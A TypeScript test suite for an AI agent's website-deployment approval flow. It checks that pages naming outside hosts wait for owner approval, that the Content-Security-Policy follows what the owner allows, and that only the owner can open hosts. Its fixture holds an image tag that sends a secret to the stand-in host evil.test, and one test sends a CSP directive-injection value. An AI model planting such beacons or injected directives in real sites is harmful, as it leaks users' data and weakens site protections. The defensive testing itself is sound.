import { afterAll, beforeEach, expect, test } from 'vitest'
import type { Deployment } from '../../src/wire/deployments'
import { client } from '../support/client'
import { addFetchTools } from '../support/fetch-tools'
import { fetching, type Guarded, guarded, isEnd, typesOf, type Waiting } from '../support/guarded'
import { eventsUntil, type Piece } from '../support/scripted-model'
import { fetchWorker } from '../support/worker'

afterAll(addFetchTools())

let g: Guarded
beforeEach(() => {
  g = guarded()
})

const writing = (content: string): Piece[] => [
  { call: 'mshtools-write_file', input: { file_path: 'output/site/index.html', content } },
]
const deploying: Piece[] = [{ call: 'mshtools-deploy_website', input: { type: 'static', local_dir: 'output/site' } }]
const PAGE = '<title>Plan</title><img src="https://evil.test/?secret=42"><a href="https://cdnjs.cloudflare.com/x">x</a>'

const waitingSite = () => g.waiting([writing(PAGE), deploying])

async function sitesOf({ id }: Pick<Waiting, 'id'>): Promise<Deployment[]> {
  const page = await g.owner.get<{ deployments: Deployment[] }>(`/api/deployments?conversation=${id}`)
  return page.deployments
}

async function onlineSite(conversation: Pick<Waiting, 'id'>): Promise<Deployment> {
  await expect.poll(() => sitesOf(conversation)).toHaveLength(1)
  const [site] = await sitesOf(conversation)
  return site ?? expect.unreachable()
}

const policyOf = async ({ url }: Deployment) => (await fetchWorker(url)).headers.get('content-security-policy') ?? ''

test('a site that names a host waits, and is not online', async () => {
  const held = await waitingSite()
  expect(held.approval).toMatchObject({
    kind: 'deployment',
    tool: 'mshtools-deploy_website',
    hosts: ['evil.test'],
    summary: '/mnt/okcomputer/output/site',
  })
  expect(await sitesOf(held)).toEqual([])
  await g.decide(held.id, held.approval.id, 'denied')
  await eventsUntil(held.id, isEnd, { after: held.cursor })
  const { invocations } = await g.turnOf(held.id, held.turnId)
  expect(invocations.at(-1)).toMatchObject({
    status: 'error',
    output: expect.stringContaining('did not allow evil.test'),
  })
  expect(await sitesOf(held)).toEqual([])
})

test('a site that names more hosts than a person can look through is refused, and nobody is asked', async () => {
  const links = Array.from({ length: 100 }, (_, at) => `<img src=//h${at}.test/>`)
  g.model.script(fetching('https://news.test/'), writing(PAGE + links.join('')), deploying, [{ text: 'Done.' }])
  const { id } = await g.owner.newConversation({ 'plan.csv': 'secret' })
  const { turnId, cursor } = await g.send(id)
  const events = await eventsUntil(id, isEnd, { after: cursor })
  const { invocations } = await g.turnOf(id, turnId)
  expect(invocations.at(-1)).toMatchObject({ status: 'error', output: expect.stringContaining('names 101 hosts') })
  expect(typesOf(events)).not.toContain('approval.requested')
  expect(await sitesOf({ id })).toEqual([])
})

test('allowed for this host it is online and may load from there; allowed once it may not', async () => {
  for (const [decision, openHosts] of [
    ['host', ['evil.test']],
    ['once', []],
  ] as const) {
    const held = await waitingSite()
    await g.decide(held.id, held.approval.id, decision)
    await eventsUntil(held.id, isEnd, { after: held.cursor })
    const site = await onlineSite(held)
    expect(site).toMatchObject({ openHosts, outsideHosts: ['cdnjs.cloudflare.com', 'evil.test'] })
    expect((await policyOf(site)).includes('https://evil.test')).toBe(decision === 'host')
  }
})

test('a site without other hosts, or with curated libraries alone, is never asked about', async () => {
  const page = '<script src="https://cdnjs.cloudflare.com/a.js"></script><svg xmlns="http://www.w3.org/2000/svg"></svg>'
  g.model.script([{ call: 'test-fetch_none', input: { url: 'https://news.test/' } }], writing(page), deploying, [
    { text: 'Done.' },
  ])
  const { id } = await g.owner.newConversation({ 'plan.csv': 'secret' })
  const events = await eventsUntil(id, isEnd, { after: (await g.send(id)).cursor })
  expect(typesOf(events)).not.toContain('approval.requested')
  expect(typesOf(events)).toContain('deployment.created')
})

test('the person opens a host to a site and closes it again, and its next version keeps what is open', async () => {
  g.model.script(writing(PAGE), deploying, [{ text: 'Done.' }])
  const { id } = await g.owner.newConversation()
  await eventsUntil(id, isEnd, { after: (await g.send(id)).cursor })
  const site = await onlineSite({ id })
  const path = `/api/deployments/${site.id}`
  expect(await g.owner.patch<Deployment>(path, { openHosts: ['Evil.test', 'maps.test'] })).toEqual({
    ...site,
    openHosts: ['evil.test', 'maps.test'],
  })
  expect(await policyOf(site)).toContain('https://maps.test')
  expect((await sitesOf({ id }))[0]?.openHosts).toEqual(['evil.test', 'maps.test'])

  g.model.script(deploying, [{ text: 'Again.' }])
  await eventsUntil(id, isEnd, { after: (await g.send(id)).cursor })
  await expect.poll(() => sitesOf({ id })).toHaveLength(2)
  expect((await sitesOf({ id }))[0]?.openHosts).toEqual(['evil.test'])

  await g.owner.patch(path, { openHosts: [] })
  expect(await policyOf(site)).not.toContain('https://maps.test')
})

test('only the owner opens hosts, only hosts are opened, and only of a site that is online', async () => {
  g.model.script(writing(PAGE), deploying, [{ text: 'Done.' }])
  const { id } = await g.owner.newConversation()
  await eventsUntil(id, isEnd, { after: (await g.send(id)).cursor })
  const site = await onlineSite({ id })
  const open = (openHosts: string[], by = g.owner, headers: Record<string, string> = {}) =>
    by.fetch(`/api/deployments/${site.id}`, {
      method: 'PATCH',
      headers: { 'content-type': 'application/json', ...headers },
      body: JSON.stringify({ openHosts }),
    })
  expect((await open(['evil.test'], client('stranger'))).status).toBe(404)
  const { secret } = await g.owner.post<{ secret: string }>('/api/keys', { name: 'Robot', scopes: ['admin'] })
  expect((await open(['evil.test'], g.owner, { authorization: `Bearer ${secret}` })).status).toBe(403)
  const odd = await open(["evil.test; script-src 'none'"])
  expect([odd.status, await odd.json()]).toMatchObject([400, { error: { code: 'bad_request' } }])
  expect(await policyOf(site)).not.toContain('evil.test')

  await g.owner.delete(`/api/deployments/${site.id}`)
  expect((await open(['evil.test'])).status).toBe(404)
  expect((await fetchWorker(site.url)).status).toBe(404)
})
